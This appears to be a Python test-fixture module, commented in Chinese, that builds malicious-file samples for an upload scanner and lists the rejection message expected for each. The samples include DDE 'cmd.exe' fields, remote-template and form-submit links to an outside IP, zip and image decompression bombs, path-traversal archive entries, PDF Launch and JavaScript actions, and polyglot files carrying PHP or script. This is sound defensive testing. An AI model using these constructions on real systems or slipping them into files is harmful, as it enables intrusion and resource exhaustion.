"""不懷好意的文件，全部現做。每個都像極了正經文件，差別只在要防的那一處。"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests.lib import make_files as make

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
INVOICE = (
    b'<?xml version="1.0" encoding="UTF-8"?><EInvoice xmlns="http://xbrl.mof.gov.cn/taxonomy">'
    b"<InvoiceNumber>26352000000012345678</InvoiceNumber><Amount>1280.00</Amount></EInvoice>"
)
OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def relations(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (
        f'<Relationships xmlns="{_PACKAGE_RELATIONS}"><Relationship Id="rId1" '
        f'Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def pointing(kind: str, target: str, *, external: bool = True) -> bytes:
    """正文有一條指向 target 的關係的 Word 文檔。"""
    return make.package(
        extra={"word/_rels/document.xml.rels": relations(kind, target, external=external)}
    )


def fields(*texts: str) -> bytes:
    """域代碼拆成幾段的 Word 文檔。"""
    return make.package(body=field_text(*texts))


def field_text(*texts: str) -> bytes:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in texts)
    return f"<w:document><w:p>{runs}</w:p></w:document>".encode()


def dde_workbook(before: bytes = b"") -> bytes:
    link = (
        b"<externalLink>"
        + before
        + b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    )
    return make.package(
        SHEET,
        extra={"xl/externalLinks/externalLink1.xml": link},
    )


def control() -> bytes:
    types = (
        b"<Types><Override PartName='/word/document.xml' ContentType='x.wordprocessingml.document."
        b"main+xml'/><Override PartName='/word/a.xml' ContentType='application/vnd.ms-office."
        b"activeX+xml'/></Types>"
    )
    return make.archive({"[Content_Types].xml": types, "word/document.xml": b"<a/>"})


def with_part(name: str, data: bytes) -> bytes:
    return make.package(extra={name: data})


def bomb_with_a_lying_directory() -> bytes:
    """目錄說正文只有 100 字節，解開卻有兩千萬。"""
    data = bytearray(make.package(body=b"<document>" + b"\0" * 20_000_000 + b"</document>"))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<L", 100)
    return bytes(data)


def overlapping() -> bytes:
    """一段壓縮的數據，目錄裏列幾十次：解一遍才幾 KB，解開幾十份。"""
    data = make.package()
    end = data.rfind(b"PK\x05\x06")
    start = struct.unpack("<L", data[end + 16 : end + 20])[0]
    directory = data[start:end]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"document.xml", b"documen%02dxml" % n) for n in range(40))
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 42, 42)
    tail[12:16] = struct.pack("<L", len(directory + copies))
    return data[:start] + directory + copies + bytes(tail)


def quine() -> bytes:
    """裏面的那一件就是它自己：目錄裏多列一件，內容從文件的第一個字節算起。"""
    data = overlapping()
    return data.replace(b"word/documen00xml", b"word/oneself0.zip")


def nested(depth: int) -> bytes:
    data = make.package()
    for _level in range(depth):
        data = with_part("word/embeddings/Microsoft_Excel_Sheet1.xlsx", data)
    return data


def escaping(name: str) -> bytes:
    return make.package(extra={name: b"x"})


def huge_directory() -> bytes:
    """五十萬件空文件的假目錄，本身不大，讀進來要幾百兆。"""
    entry = b"PK\x01\x02" + b"\0" * 42
    count = 150_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(entry) * count, 4, 0)
    return b"PK\x03\x04" + entry * count + end


def renamed_inside() -> bytes:
    """目錄裏叫 document.xml，頭裏叫別的：兩個軟件會讀出兩個名字。"""
    data = make.package()
    at = data.find(b"word/document.xml")
    return data[:at] + b"word/evil_file.js" + data[at + 17 :]


def pdf(dictionary: bytes) -> bytes:
    return make.pdf(b"2 0 obj<<" + dictionary + b">>endobj\n")


def pdf_with_object_stream(text: bytes, extra: bytes = b"/Filter/FlateDecode") -> bytes:
    data = zlib.compress(text)
    head = b"5 0 obj<</Type/ObjStm/N 1/First 4%s/Length %d>>stream\r\n" % (extra, len(data))
    return make.pdf(head + data + b"\r\nendstream endobj\n")


def pdf_with_attachment(
    data: bytes, name: bytes = b"invoice.xml", *, spec: bytes = b"", extra: bytes = b""
) -> bytes:
    """帶一份附件的 PDF，各對象登記在目錄裏，與正經軟件寫的一樣。extra 是沒有登記的東西。"""
    packed = zlib.compress(data)
    objects = [
        b"<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a)2 0 R]>>>>>>",
        b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 3 0 R>>%s>>" % (name, name, spec),
        b"<</Type/EmbeddedFile/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(packed), packed),
    ]
    body, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj%s\nendobj\n" % (number, text)
    body += extra
    table = b"".join(b"%010d 00000 n \n" % at for at in places)
    return (
        b"%sxref\n0 4\n0000000000 65535 f \n%strailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            body,
            table,
            len(body),
        )
    )


def connected_workbook(kind: str, part: str) -> bytes:
    """連着外面數據的表格。"""
    return make.package(
        SHEET, extra={"xl/_rels/workbook.xml.rels": relations(kind, part, external=False)}
    )


def square_png(side: int) -> bytes:
    """報稱邊長 side 的黑白 PNG：十萬見方解開要一千兆，文件只有幾 KB。"""
    head = struct.pack(">2L5B", side, side, 1, 0, 0, 0, 0)
    deflate = zlib.compressobj(9)
    row = b"\0" * (side // 8 + 1)
    pixels = b"".join(deflate.compress(row * 100) for _ in range(2)) + deflate.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", pixels) + _chunk(b"IEND")


def _chunk(name: bytes, data: bytes = b"") -> bytes:
    check = zlib.crc32(name + data)
    return struct.pack(">L", len(data)) + name + data + struct.pack(">L", check)


def huge_webp() -> bytes:
    """報稱 16777216 見方的擴展 WebP。"""
    canvas = b"\0\0\0\0" + b"\xff\xff\xff" * 2
    body = b"WEBPVP8X" + struct.pack("<L", 10) + canvas
    return b"RIFF" + struct.pack("<L", len(body)) + body


def huge_heic() -> bytes:
    """把 HEIC 頭裏的寬高改成十萬。"""
    data = bytearray(make.picture(make.scene(), "HEIF"))
    at = data.find(b"ispe")
    while at >= 0:
        data[at + 8 : at + 16] = struct.pack(">2L", 100_000, 100_000)
        at = data.find(b"ispe", at + 1)
    return bytes(data)


def huge_jpeg() -> bytes:
    """把 JPEG 頭裏的寬高改成 65500。"""
    data = bytearray(make.picture(make.scene()))
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">2H", 65_500, 65_500)
    return bytes(data)


def text_bomb_png() -> bytes:
    """圖很小，附注解開有八百萬字節。"""
    picture = make.picture(Image.new("1", (8, 8)), "PNG")
    note = b"Comment\0\0" + zlib.compress(b"\0" * 8_000_000, 9)
    return picture[:33] + _chunk(b"zTXt", note) + picture[33:]


def photo() -> bytes:
    return make.picture(make.scene())


def with_mimetype_store() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as target:
        target.writestr("[Content_Types].xml", b"<Types/>")
    return buffer.getvalue()


JAR = make.archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
#: 名稱 → (文件名, 怎麼做, 拒絕的話裏有這幾個字)
CASES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # 宏和程序
    "vba project": ("表.docx", lambda: with_part("word/vbaProject.bin", OLE_HEAD), "帶有宏"),
    "macro sheet": ("表.xlsx", lambda: with_part("xl/macrosheets/VBA_1.xml", b"<a/>"), "帶有宏"),
    "macro-enabled type": (
        "表.docx",
        lambda: make.package("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "帶有宏",
    ),
    "macro by relation": (
        "表.docx",
        lambda: pointing("vbaProject", "a.bin", external=False),
        "帶有宏",
    ),
    "macros in an old document": ("表.doc", lambda: make.ole("_VBA_PROJECT", "WordDocument"), "宏"),
    "dde field": ("表.docx", lambda: fields("DDEAUTO c:\\\\cmd.exe"), "帶有宏"),
    "dde field in pieces": ("表.docx", lambda: fields("DD", "EAU", "TO cmd"), "帶有宏"),
    "dde field in small letters": ("表.docx", lambda: fields("ddeAuto c:\\\\cmd.exe"), "帶有宏"),
    "dde field in references": ("表.docx", lambda: fields("&#68;D&#x45; cmd"), "帶有宏"),
    "dde field in a header": (
        "表.docx",
        lambda: with_part("word/header1.xml", field_text("DDE cmd")),
        "帶有宏",
    ),
    "dde field in wide letters": (
        "表.docx",
        lambda: make.package(body=field_text("DDE cmd").decode().encode("utf-16")),
        "結構不合規範",
    ),
    "dde link far down": (
        "表.xlsx",
        lambda: dde_workbook(b"<!--" + b"." * 300_000 + b"-->"),
        "帶有宏",
    ),
    "dde link": ("表.xlsx", dde_workbook, "帶有宏"),
    "ole object": ("表.docx", lambda: with_part("word/embeddings/o.bin", OLE_HEAD), "OLE"),
    "ole relation": ("表.docx", lambda: pointing("oleObject", "o.bin", external=False), "OLE"),
    "activex": ("表.docx", control, "控件"),
    "program inside": ("表.docx", lambda: with_part("word/media/a.png", b"MZ\x90\0"), "夾着程序"),
    "script page inside": (
        "表.docx",
        lambda: with_part("word/a.html", b"<html><script>1</script>"),
        "套着壓縮包或網頁",
    ),
    "alternative chunk": (
        "表.docx",
        lambda: pointing("aFChunk", "a.bin", external=False),
        "對象或控件",
    ),
    # 指向外面
    "remote template": (
        "表.docx",
        lambda: pointing("attachedTemplate", "http://198.51.100.7/a.dotm"),
        "斷開鏈接",
    ),
    "template on a share": (
        "表.docx",
        lambda: pointing("attachedTemplate", "file:///\\\\198.51.100.7\\s\\a.dotm"),
        "斷開鏈接",
    ),
    "remote picture": (
        "表.docx",
        lambda: pointing("image", "https://198.51.100.7/a.png"),
        "斷開鏈接",
    ),
    "encoded share": (
        "表.docx",
        lambda: pointing("frame", "%5C%5C198.51.100.7%5Cs"),
        "斷開鏈接",
    ),
    "remote object": (
        "表.docx",
        lambda: pointing("oleObject", "mhtml:http://198.51.100.7/a!x-usc:b"),
        "斷開鏈接",
    ),
    "script link": ("表.docx", lambda: pointing("hyperlink", "javascript:alert(1)"), "斷開鏈接"),
    # 壓縮包
    "ratio bomb": ("表.docx", lambda: make.package(body=b"\0" * 20_000_000), "異常龐大"),
    "lying directory": ("表.docx", bomb_with_a_lying_directory, "損壞"),
    "too many parts": ("表.docx", huge_directory, "異常龐大"),
    "overlapping entries": ("表.docx", overlapping, "結構不合規範"),
    "quine": ("表.docx", quine, "結構不合規範"),
    "packages three deep": ("表.docx", lambda: nested(2), "套着壓縮包"),
    "archive inside": (
        "表.docx",
        lambda: with_part("word/a.dat", make.archive({"a": b"b"})),
        "套着壓縮包",
    ),
    "path escape": ("表.docx", lambda: escaping("../../etc/cron.d/x"), "結構不合規範"),
    "absolute path": ("表.docx", lambda: escaping("/etc/passwd"), "結構不合規範"),
    "backslash path": ("表.docx", lambda: escaping("..\\..\\x.xml"), "結構不合規範"),
    "two names": ("表.docx", renamed_inside, "結構不合規範"),
    "odd compression": ("表.docx", with_mimetype_store, "結構不合規範"),
    "entity bomb": (
        "表.docx",
        lambda: make.package(body=b"<!DOCTYPE a [<!ENTITY b 'c'>]><document>&b;</document>"),
        "損壞",
    ),
    "entities in a side part": (
        "表.docx",
        lambda: with_part(
            "word/styles.xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a/>"
        ),
        "損壞",
    ),
    "workbook with a connection": (
        "表.xlsx",
        lambda: connected_workbook("connections", "connections.xml"),
        "查詢和連接",
    ),
    "workbook with a query": (
        "表.xlsx",
        lambda: connected_workbook("queryTable", "../queryTables/queryTable1.xml"),
        "查詢和連接",
    ),
    "workbook with a connection by content type": (
        "表.xlsx",
        lambda: make.archive(
            {
                "[Content_Types].xml": b"<Types><Override PartName='/xl/workbook.xml' ContentType='"
                + SHEET.encode()
                + b"'/><Override PartName='/xl/c.xml' ContentType='application/vnd."
                b"openxmlformats-officedocument.spreadsheetml.connections+xml'/></Types>",
                "xl/workbook.xml": b"<workbook/>",
            }
        ),
        "查詢和連接",
    ),
    "encrypted office": ("表.docx", lambda: make.ole("EncryptedPackage"), "設了密碼"),
    "encrypted archive": ("包.zip", lambda: b"Rar!\x1a\x07\x01\x00" + b"\1" * 99, "壓縮包"),
    # PDF
    "pdf script": ("文.pdf", lambda: pdf(b"/S/JavaScript/JS(app.alert(1))"), "腳本"),
    "pdf script in hex": ("文.pdf", lambda: pdf(b"/S/J#61va#53cript/JS 3 0 R"), "腳本"),
    "pdf script in an object stream": (
        "文.pdf",
        lambda: pdf_with_object_stream(b"4 0 <</S/JavaScript/JS(x)>>"),
        "腳本",
    ),
    "pdf launch": ("文.pdf", lambda: pdf(b"/S /Launch /F(cmd.exe)"), "啟動別的程序"),
    "pdf submit": ("文.pdf", lambda: pdf(b"/S/SubmitForm/F(http://198.51.100.7)"), "往外提交"),
    "pdf attachment": ("文.pdf", lambda: pdf(b"/Names<</EmbeddedFiles 7 0 R>>"), "夾帶着附件"),
    "pdf attachment that is a program": (
        "文.pdf",
        lambda: pdf_with_attachment(b"MZ\x90\0" + b"\0" * 99, b"setup.exe"),
        "夾帶着附件",
    ),
    "pdf attachment that is a program called xml": (
        "文.pdf",
        lambda: pdf_with_attachment(b"MZ\x90\0" + b"\0" * 99),
        "夾帶着附件",
    ),
    "pdf attachment that is an archive": (
        "文.pdf",
        lambda: pdf_with_attachment(JAR),
        "夾帶着附件",
    ),
    "pdf attachment that is a workbook with macros": (
        "文.pdf",
        lambda: pdf_with_attachment(with_part("xl/vbaProject.bin", b"x"), b"book.xlsm"),
        "夾帶着附件",
    ),
    "pdf attachment that is a script host file": (
        "文.pdf",
        lambda: pdf_with_attachment(b"<job><script language='VBScript'>x</script></job>"),
        "夾帶着附件",
    ),
    "pdf attachment that runs under another name": (
        "文.pdf",
        lambda: pdf_with_attachment(INVOICE, b"invoice.xml.hta"),
        "夾帶着附件",
    ),
    "pdf attachment opened by office": (
        "文.pdf",
        lambda: pdf_with_attachment(
            b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w/>"
        ),
        "夾帶着附件",
    ),
    "pdf attachment that is a page": (
        "文.pdf",
        lambda: pdf_with_attachment(b"<a xmlns:h='http://www.w3.org/1999/xhtml'><h:img/></a>"),
        "夾帶着附件",
    ),
    "pdf attachment with entities": (
        "文.pdf",
        lambda: pdf_with_attachment(b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
        "夾帶着附件",
    ),
    "pdf attachment swollen": (
        "文.pdf",
        lambda: pdf_with_attachment(b"<a>" + b" " * 40_000_000 + b"</a>"),
        "夾帶着附件",
    ),
    "pdf attachment beside the listed one": (
        "文.pdf",
        lambda: pdf_with_attachment(INVOICE, extra=b"9 0 obj<</F(a.exe)/EF<</F 8 0 R>>>>endobj\n"),
        "夾帶着附件",
    ),
    "pdf attachment with a hidden name": (
        "文.pdf",
        lambda: pdf_with_attachment(INVOICE, spec=b"/DOS(run.js)"),
        "夾帶着附件",
    ),
    "pdf attachment and script": (
        "文.pdf",
        lambda: pdf_with_attachment(INVOICE, spec=b"/A<</S/JavaScript/JS(x)>>"),
        "腳本",
    ),
    "pdf dynamic form": ("文.pdf", lambda: pdf(b"/AcroForm<</XFA[(template)5 0 R]>>"), "動態表單"),
    "pdf dynamic form in an object stream": (
        "文.pdf",
        lambda: pdf_with_object_stream(b"4 0 <</Fields[]/X#46A 9 0 R>>"),
        "動態表單",
    ),
    "pdf rich media": ("文.pdf", lambda: pdf(b"/Subtype/RichMedia"), "音視頻"),
    "pdf oddly packed": (
        "文.pdf",
        lambda: pdf_with_object_stream(b"x", b"/Filter[/ASCIIHexDecode/FlateDecode]"),
        "少見的壓法",
    ),
    "pdf object bomb": (
        "文.pdf",
        lambda: pdf_with_object_stream(b"\0" * 17_000_000),
        "異常龐大",
    ),
    "pdf locked": ("文.pdf", lambda: make.pdf(b"trailer<</Encrypt 5 0 R>>"), "密碼"),
    "pdf cut": ("文.pdf", lambda: make.pdf(b"x" * 20_000)[:9_000], "沒有傳完整"),
    "pdf not at the start": ("文.pdf", lambda: b"GIF8;junk\n" + make.pdf(), "開頭夾着別的"),
    "pdf with an archive behind": ("文.pdf", lambda: make.pdf() + JAR, "接着另一種文件"),
    # 圖片
    "png a hundred thousand a side": ("圖.png", lambda: square_png(100_000), "尺寸過大"),
    "webp of sixteen million": ("圖.webp", huge_webp, "。"),
    "heic a hundred thousand a side": ("圖.heic", huge_heic, "。"),
    "jpeg of four thousand megapixels": ("圖.jpg", huge_jpeg, "尺寸過大"),
    "png with a swollen note": ("圖.png", text_bomb_png, "。"),
    "gif bomb": ("圖.gif", lambda: b"GIF89a\xff\xff\xff\xff" + b"\0" * 90, "另存為 JPG"),
    "tiff bomb": ("圖.tiff", lambda: b"II*\0\x08\0\0\0" + b"\0" * 90, "另存為 JPG"),
    "picture and archive": ("圖.jpg", lambda: photo() + JAR, "接着另一種文件"),
    "page behind a picture": (
        "圖.jpg",
        lambda: photo() + b"<html><script>alert(1)</script>",
        "接着另一種文件",
    ),
    "php behind a picture": ("圖.jpg", lambda: photo() + b"<?php system(1); ?>", "接着另一種文件"),
    "gifar": ("圖.gif", lambda: b"GIF89a" + b"\0" * 40 + JAR, "另存為 JPG"),
    "half a picture": ("圖.jpg", lambda: photo()[:2000], "損壞"),
    "svg": ("圖.png", lambda: b"<svg onload='alert(1)'/>", "SVG"),
    # 名不副實、空的
    "program called a picture": ("圖.jpg", lambda: b"MZ\x90\0" + b"\0" * 99, "程序文件"),
    "word called a picture": ("圖.jpg", make.word, "改回正確的名稱"),
    "turned-over name": ("報告\u202excod.exe", make.word, "改回正確的名稱"),
    "shortcut": ("表.docx", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 99, "程序文件"),
    "page called pdf": ("文.pdf", lambda: b"<!doctype html><script>1</script>", "網頁"),
    "nothing": ("空.pdf", lambda: b"", "空的"),
    "zeros": ("空.pdf", lambda: b"\0" * 5000, "看不出"),
}
